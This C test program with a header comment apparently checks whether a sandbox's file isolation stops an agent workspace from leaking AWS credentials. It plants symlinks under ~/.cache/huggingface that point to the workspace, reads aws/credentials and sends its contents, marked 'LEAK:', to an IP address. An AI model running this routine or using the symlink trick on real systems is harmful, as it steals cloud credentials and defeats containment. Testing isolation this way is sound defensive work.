// fill IP HOME MODE: the workspace is a dotfiles repo (ws/aws, no ~/.aws yet). Sends PRE;
// MODE fill: mkdir ~/.cache/huggingface and makes 8 links ~/.cache/huggingface/aI ->
// ws/aws (names that could name below: each a name of ws/aws, MAX_NAMES = 8, names
// nothing secret); MODE none: nothing (control). Says ready; the user then links
// ~/.aws -> ws/aws and runs `aws configure` (writes ~/.aws/credentials, a new file
// ws/aws/credentials); the agent opens ws/aws/credentials and sends it.
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <sys/stat.h>
#include "../../../isolated-files-r4/send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1],*home=argv[2],*mode=argv[3]; char p[512],t[512];
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  getcwd(t,sizeof t); strcat(t,"/aws");
  if(!strcmp(mode,"fill")){ snprintf(p,512,"%s/.cache/huggingface",home); printf("mkdir: %d\n",mkdir(p,0755));
    for(int i=1;i<=8;i++){ snprintf(p,512,"%s/.cache/huggingface/a%d",home,i); int r=symlink(t,p); printf("symlink a%d: %d %s\n",i,r,r?strerror(errno):""); } }
  close(open("ready",O_CREAT|O_WRONLY,0644)); sleep(3);
  int fd=open("aws/credentials",O_RDONLY); if(fd<0){perror("open aws/credentials");}
  char buf[256]={0}; ssize_t n=fd<0?-1:read(fd,buf,255); printf("aws/credentials READS %zd: %.50s\n",n,buf);
  char m[300]; int l=snprintf(m,sizeof m,"LEAK:%.60s",buf); printf("POST send: %d\n",send_buf(ip,m,l)); return 0; }
